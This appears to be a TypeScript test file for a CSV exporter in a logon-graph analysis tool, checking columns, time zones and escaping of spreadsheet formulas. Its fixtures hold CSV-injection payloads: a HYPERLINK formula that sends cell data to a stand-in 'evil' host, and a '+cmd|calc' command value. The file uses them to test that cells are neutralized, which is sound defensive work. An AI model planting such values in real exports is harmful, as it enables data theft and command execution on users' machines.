import { describe, expect, it } from 'vitest';
import { makeDataset, makeNode } from '../analysis/testing.js';
import { computeView } from '../analysis/view.js';
import { DEFAULT_FILTERS, NO_FILTERS } from '../analysis/view-filters.js';
import {
  edgesCsv,
  nodesByRank,
  nodesCsv,
  NODE_CSV_COLUMNS,
  EDGE_CSV_COLUMNS,
  META_CSV_COLUMNS,
} from './view-csv.js';

const H = 451_016; // 2021-06-14T08:00:00Z
const FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")';

/** A tiny RFC 4180 reader, independent of the writer: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = (): void => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  return rows;
}

function dataset() {
  return makeDataset(
    [
      { account: 'account:corp\\evil', source: 'ip:10.0.0.5', target: 'host:dc1', hourly: [[H, 3]] },
      {
        account: 'account:corp\\alice',
        source: 'ip:10.0.0.5',
        target: 'host:dc1',
        hourly: [[H + 1, 2]],
        failure: true,
      },
      { account: 'account:corp\\late', source: 'ip:10.0.0.9', target: 'host:dc1', hourly: [[H + 30, 1]] },
    ],
    [makeNode('account:corp\\evil', { label: FORMULA, name: `-2+3\r\n@SUM(1)` })],
  );
}

const WINDOW = { from: '2021-06-14T00:00:00Z', to: '2021-06-15T00:00:00Z' };
const META = { dataset: '+cmd|calc', window: WINDOW, exportedAt: '2026-03-10T14:15:03Z' };

describe('the view as CSV', () => {
  it('has one row per node of the view, by rank, with scores and reasons, and where it comes from', () => {
    const view = computeView(dataset(), WINDOW, NO_FILTERS);
    const rows = parseCsv(nodesCsv(view, META));
    expect(rows[0]).toEqual([...NODE_CSV_COLUMNS, ...META_CSV_COLUMNS]);
    const body = rows.slice(1);
    expect(body.map((r) => r[NODE_CSV_COLUMNS.indexOf('nodeId')])).toEqual(
      nodesByRank(view).map((n) => n.id),
    );
    const meta = (name: (typeof META_CSV_COLUMNS)[number]) =>
      new Set(body.map((r) => r[NODE_CSV_COLUMNS.length + META_CSV_COLUMNS.indexOf(name)]));
    expect(meta('dataset')).toEqual(new Set(["'+cmd|calc"]));
    expect(meta('windowFrom')).toEqual(new Set([WINDOW.from]));
    expect(meta('timeZone')).toEqual(new Set(['UTC']));
    expect(body.every((r) => r.length === rows[0]!.length)).toBe(true);
    // Scores are numbers, reasons the analysis' texts.
    const pr = NODE_CSV_COLUMNS.indexOf('pagerank');
    expect(body.every((r) => Number.isFinite(Number(r[pr])))).toBe(true);
    const withReasons = body.filter((r) => r[NODE_CSV_COLUMNS.indexOf('reasons')] !== '');
    expect(withReasons.length).toBeGreaterThan(0);
    // The late account is outside the window: not a row.
    expect(body.some((r) => r.includes('account:corp\\late'))).toBe(false);
  });

  it('has one row per edge of the view, with the server export’s columns', () => {
    const view = computeView(dataset(), WINDOW, { ...DEFAULT_FILTERS, outcome: 'failure' });
    const rows = parseCsv(edgesCsv(view, META));
    expect(rows[0]).toEqual([...EDGE_CSV_COLUMNS, ...META_CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => r[EDGE_CSV_COLUMNS.indexOf('edgeId')])).toEqual(
      view.edges.map((e) => e.id),
    );
    expect(rows).toHaveLength(2);
  });

  it('writes its times in the analyst’s zone, with the offset, and names the zone', () => {
    const view = computeView(dataset(), WINDOW, { ...DEFAULT_FILTERS, outcome: 'failure' });
    const rows = parseCsv(edgesCsv(view, { ...META, timeZone: 'Asia/Tokyo' }));
    const row = rows[1]!;
    const col = (name: string) => row[[...EDGE_CSV_COLUMNS, ...META_CSV_COLUMNS].indexOf(name as never)];
    const edge = view.edges[0]!;
    // 9 hours ahead of UTC, written with its offset: unambiguous for whoever reads the file.
    const tokyo = new Date(Date.parse(edge.first) + 9 * 3_600_000)
      .toISOString()
      .slice(0, 19)
      .replace('T', ' ');
    expect(col('first')).toBe(`${tokyo} +09:00`);
    expect(col('windowFrom')).toBe('2021-06-14 09:00:00 +09:00');
    expect(col('exportedAt')).toBe('2026-03-10 23:15:03 +09:00');
    expect(col('timeZone')).toBe('Asia/Tokyo');
    // In UTC (no zone) the times stay ISO UTC, as the server's and the CLI's CSV.
    expect(parseCsv(edgesCsv(view, META))[1]![EDGE_CSV_COLUMNS.indexOf('first')]).toBe(edge.first);
  });

  it('neutralizes formulas in every cell (labels, names, the dataset name)', () => {
    const view = computeView(dataset(), WINDOW, NO_FILTERS);
    for (const text of [nodesCsv(view, META), edgesCsv(view, META)]) {
      for (const row of parseCsv(text)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const nodes = parseCsv(nodesCsv(view, META));
    expect(nodes.flat()).toContain(`'${FORMULA}`);
    expect(nodes.flat()).toContain(`'-2+3\r\n@SUM(1)`);
  });
});
